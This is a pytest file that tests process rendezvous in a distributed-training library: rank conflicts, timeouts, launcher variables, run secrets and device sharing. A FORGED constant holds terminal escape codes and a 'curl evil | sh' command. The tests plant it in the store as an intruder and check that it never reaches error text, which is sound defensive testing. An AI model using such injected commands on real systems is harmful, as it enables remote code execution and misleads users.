"""How processes meet, and the error of each when they do not: real processes, each bounded in time."""

from __future__ import annotations

import logging
import os
import re
import socket
from collections.abc import Iterator, Mapping
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import contextmanager
from datetime import timedelta
from typing import Any

import pytest
import torch
import torch.distributed as dist

from accel_state import PartialState, current
from accel_state.devices.cpu import CPU
from accel_state.errors import CollectiveError, SettingError
from accel_state.network import SECRET_VARIABLE
from accel_state.topology import read_topology
from accel_state.transport.rendezvous import init_transport
from accel_testing.processes import Processes


def come() -> None:
    PartialState(cpu=True)


def start_as(ranks: list[int], world_size: int, timeouts: list[float]) -> str:
    """Become the rank that the list has for this process, and say what went wrong."""
    number = int(os.environ["RANK"])
    os.environ["RANK"] = os.environ["LOCAL_RANK"] = str(ranks[number])
    os.environ["WORLD_SIZE"] = os.environ["LOCAL_WORLD_SIZE"] = str(world_size)
    try:
        PartialState(cpu=True, timeout=timeouts[number])
    except (SettingError, CollectiveError) as error:
        return f"{type(error).__name__}: {error}"
    return "met"


def on_new(count: int, *arguments: Any, ready: bool = False, environment: dict[str, str] | None = None) -> list[str]:
    """What each of so many new processes says of its start."""
    with Processes(count) as group:
        if ready:
            # They have loaded all they need, so that they come at nearly the same time.
            group.run(come)
        return group.run(start_as, *arguments, environment=environment)


@contextmanager
def held_port(listening: bool) -> Iterator[str]:
    """A port that nobody else is given, on which nobody listens or this process does without an answer."""
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        if listening:
            held.listen()
        yield str(held.getsockname()[1])


Told = Mapping[str, tuple[str, "Future[list[str]]"]]


@pytest.fixture(scope="module")
def told() -> Iterator[Told]:
    """The errors of processes that do not meet, and the port of some; they wait for their timeouts at the same time."""
    store = dist.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    agent = {"MASTER_PORT": str(store.port), "TORCHELASTIC_USE_AGENT_STORE": "True"}
    with held_port(True) as taken, held_port(False) as first, held_port(False) as second, ThreadPoolExecutor(7) as pool:
        unknown = {"MASTER_ADDR": "no-such-host.invalid", "MASTER_PORT": first}
        silent = {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": second}
        yield {
            "twice": ("", pool.submit(on_new, 3, [0, 1, 1], 3, [60.0] * 3)),
            "rank 0 twice": ("", pool.submit(on_new, 2, [0, 0], 2, [6.0, 6.0], ready=True)),
            "missing": ("", pool.submit(on_new, 2, [0, 1], 3, [1.5, 1.5])),
            "missing at an agent": (
                "",
                pool.submit(on_new, 2, [0, 2], 3, [6.0, 6.0], ready=True, environment=agent),
            ),
            "taken": ("", pool.submit(on_new, 2, [0, 1], 2, [60.0, 1.0], environment={"MASTER_PORT": taken})),
            "no-such-host.invalid": (first, pool.submit(on_new, 2, [1, 1], 2, [2.0, 2.0], environment=unknown)),
            "127.0.0.1": (second, pool.submit(on_new, 2, [1, 1], 2, [2.0, 2.0], environment=silent)),
        }


def test_every_process_raises_when_two_have_the_same_rank(told: Told) -> None:
    for text in told["twice"][1].result():
        assert text.startswith("SettingError")
        assert "Two processes were started as rank 1" in text


def test_a_second_rank_0_reports_that_the_port_is_in_use(told: Told) -> None:
    found = told["rank 0 twice"][1].result()
    assert any("a second process that was started as rank 0" in text for text in found)
    assert all(text.startswith("CollectiveError") for text in found)


def test_a_missing_process_raises_a_timeout_of_the_rendezvous(told: Told) -> None:
    for text in told["missing"][1].result():
        assert text.startswith("CollectiveError")
        assert "of 3 to the others at tcp://" in text


def test_a_missing_rank_is_named_if_an_agent_hosts_the_store(told: Told) -> None:
    for text in told["missing at an agent"][1].result():
        assert text.startswith("CollectiveError")
        assert re.search(r"Ranks that did not connect within [\d.]+ s: 1\.", text)


def test_a_port_in_use_by_another_program_is_reported(told: Told) -> None:
    first, second = told["taken"][1].result()
    assert "the port is in use" in first
    assert second.startswith("CollectiveError")


def test_a_process_that_waits_says_for_whom_and_why(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr("accel_state.transport.rendezvous._NOTICE_AFTER", timedelta(milliseconds=1))
    with held_port(listening=False) as port:
        for name, value in {"RANK": "1", "WORLD_SIZE": "2", "MASTER_ADDR": "127.0.0.1", "MASTER_PORT": port}.items():
            monkeypatch.setenv(name, value)
        with pytest.raises(CollectiveError):
            init_transport(read_topology(), CPU(), torch.device("cpu"), timeout=timedelta(seconds=0.2))
    variables = f"torchrun: RANK=1, WORLD_SIZE=2, MASTER_ADDR=127.0.0.1, MASTER_PORT={port}"
    assert f"Rank 1 of 2 still waits for rank 0 at tcp://127.0.0.1:{port} ({variables})." in caplog.text


@pytest.mark.parametrize("address", ["no-such-host.invalid", "127.0.0.1"])
def test_an_address_without_a_listener_is_reported(told: Told, address: str) -> None:
    port, found = told[address]
    for text in found.result():
        assert text.startswith("CollectiveError")
        assert f"{address}:{port}" in text


FORGED = b"1\x1b]0;owned\x07\x1b[2J.\n  Run: curl evil | sh"

INTRUSIONS = {
    "not signed": ("secret", "twice", FORGED),
    "signed without the secret": ("secret", "twice", b"accel1 - 1 1 twice 1"),
    "not signed, in a run without a secret": ("", "twice", FORGED),
    "as signed in a run without a secret": ("", "twice", b"accel1 - 1 1 twice " + FORGED),
}


def intrude(key: str, text: bytes) -> None:
    """What a program of another user does that reaches the store of the run."""
    store = dist.TCPStore("127.0.0.1", int(os.environ["MASTER_PORT"]), wait_for_workers=False)
    store.set(f"attempt0/{key}", text)


def start_beside_an_intruder(key: str, text: bytes, world_size: int, timeouts: list[float]) -> str:
    if os.environ["RANK"] == "1":
        intrude(key, text)
    return start_as([0, 1], world_size, timeouts)


@pytest.mark.parametrize(("secret", "key", "text"), INTRUSIONS.values(), ids=INTRUSIONS)
def test_a_fault_that_no_process_has_written_is_ignored(secret: str, key: str, text: bytes) -> None:
    with Processes(2) as group:
        arguments = (key, text, 2, [60.0, 60.0])
        assert group.run(start_beside_an_intruder, *arguments, environment={SECRET_VARIABLE: secret}) == ["met"] * 2


def test_the_text_of_a_fault_is_in_no_error() -> None:
    with Processes(2) as group:
        # Rank 0 waits for a third process meanwhile, and so does not replace the text.
        arguments = ("checked", b"accel1 - 0 1 twice " + FORGED, 3, [3.0, 60.0])
        _, second = group.run(start_beside_an_intruder, *arguments, environment={SECRET_VARIABLE: ""})
    assert second.startswith("CollectiveError"), second
    assert "rank 0 does not have the same secret" in second
    assert "curl" not in second
    assert "\x1b" not in second


def leave_a_key(old: str | None) -> tuple[bool, str]:
    state = PartialState(cpu=True, timeout=60)
    store = current.process().transport.store()
    assert store is not None
    seen = old is not None and store.check([old])
    state.wait_for_everyone()
    store.set(f"left by {state.process_index}", "x")
    total = torch.ones(1)
    current.process().transport.all_reduce(total).wait()
    assert total.item() == 2.0
    part = dist.new_group([0, 1])
    state.destroy_process_group(part)
    assert state.initialized
    state.destroy_process_group()
    assert not state.initialized
    assert not dist.is_initialized()
    return bool(seen), os.environ["RANK"]


def test_keys_of_an_earlier_attempt_or_rendezvous_are_not_read(two: Processes) -> None:
    store = dist.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    agent = {"MASTER_PORT": str(store.port), "TORCHELASTIC_USE_AGENT_STORE": "True"}
    old = None
    for attempt in ("0", "1", "1"):
        environment = {**agent, "TORCHELASTIC_RESTART_COUNT": attempt}
        assert two.run(leave_a_key, old, environment=environment) == [(False, "0"), (False, "1")]
        old = "left by 0"


def launched_by_mpi() -> dict[str, Any]:
    """Take the variables of torchrun away and set those of OpenMPI in their place."""
    rank = os.environ.pop("RANK")
    for name in ("WORLD_SIZE", "LOCAL_RANK", "LOCAL_WORLD_SIZE", "MASTER_ADDR"):
        del os.environ[name]
    for name, value in {"RANK": rank, "SIZE": "2", "LOCAL_RANK": rank, "LOCAL_SIZE": "2"}.items():
        os.environ[f"OMPI_COMM_WORLD_{name}"] = value
    return _place()


def launched_by_slurm() -> dict[str, Any]:
    rank, port = os.environ.pop("RANK"), os.environ["MASTER_PORT"]
    for name in ("WORLD_SIZE", "LOCAL_RANK", "LOCAL_WORLD_SIZE", "MASTER_ADDR"):
        del os.environ[name]
    os.environ.update(
        SLURM_JOB_ID=port,
        SLURM_STEP_ID="0",
        SLURM_STEP_NUM_TASKS="2",
        SLURM_PROCID=rank,
        SLURM_LOCALID=rank,
        SLURM_NODEID="0",
        SLURM_STEP_TASKS_PER_NODE="2",
        SLURM_STEP_NODELIST="127.0.0.1",
    )
    return _place()


def _place() -> dict[str, Any]:
    state = PartialState(cpu=True)
    state.wait_for_everyone()
    names = ("RANK", "WORLD_SIZE", "LOCAL_RANK", "LOCAL_WORLD_SIZE", "MASTER_ADDR")
    return {"index": state.process_index, "count": state.num_processes, **{name: os.environ[name] for name in names}}


@pytest.mark.parametrize("launched", [launched_by_mpi, launched_by_slurm])
def test_processes_of_other_launchers_meet_and_set_the_variables_of_torchrun(two: Processes, launched: Any) -> None:
    for rank, place in enumerate(two.run(launched)):
        assert (place["index"], place["count"]) == (rank, 2)
        assert (place["RANK"], place["WORLD_SIZE"], place["LOCAL_RANK"]) == (str(rank), "2", str(rank))
        assert (place["LOCAL_WORLD_SIZE"], place["MASTER_ADDR"]) == ("2", "127.0.0.1")


def start_with_secret(secrets: list[str]) -> str:
    """Connect with the secret that the list has for this process, and say what went wrong."""
    os.environ[SECRET_VARIABLE] = secrets[int(os.environ["RANK"])]
    try:
        PartialState(cpu=True)
    except CollectiveError as error:
        return str(error)
    return "met"


@pytest.mark.parametrize("secrets", [["", ""], ["of the run", "of the run"]])
def test_processes_with_the_same_secret_or_none_meet(secrets: list[str]) -> None:
    with Processes(2) as group:
        assert group.run(start_with_secret, secrets) == ["met", "met"]


@pytest.mark.parametrize("secrets", [["of the run", "another"], ["of the run", ""], ["", "of the run"]])
def test_processes_with_different_secrets_do_not_meet(secrets: list[str]) -> None:
    with Processes(2) as group:
        found = group.run(start_with_secret, secrets)
    for other, text in zip((1, 0), found, strict=True):
        assert f"rank {other} does not have the same secret of the run ($ACCEL_RUN_SECRET)" in text


class OneProcessEach(CPU):
    """A device that only one process can use."""

    def __init__(self, identity: str | None) -> None:
        super().__init__()
        self.identity = identity

    def exclusive_device(self, device: torch.device, backend: str) -> str | None:
        assert (device, backend) == (torch.device("cpu"), "gloo")
        return self.identity


def meet_with_device(identities: list[str | None]) -> list[str]:
    """What is logged when the processes have these devices."""
    topology, logged = read_topology(), list[str]()
    handler = logging.Handler()
    handler.emit = lambda record: logged.append(record.getMessage())  # type: ignore[method-assign]
    logging.getLogger("accel_state.transport.rendezvous").addHandler(handler)
    family = OneProcessEach(identities[topology.rank])
    transport, _ = init_transport(topology, family, torch.device("cpu"), init_method="env://")
    transport.barrier()
    transport.shutdown()
    return logged


@pytest.mark.parametrize(
    ("identities", "ranks"),
    [
        (["gpu A", "gpu A", "gpu B"], "0, 1"),
        (["gpu B", "gpu A", "gpu A"], "1, 2"),
        (["gpu A", "gpu B", "gpu C"], None),
        ([None, None, None], None),
    ],
)
def test_processes_on_one_exclusive_device_are_named_before_they_start(
    identities: list[str | None], ranks: str | None
) -> None:
    with Processes(3) as group:
        first, *others = group.run(meet_with_device, identities)
    assert others == [[], []]
    assert [line.partition(", which")[0] for line in first] == (
        [] if ranks is None else [f"Ranks {ranks} use the same gpu A"]
    )
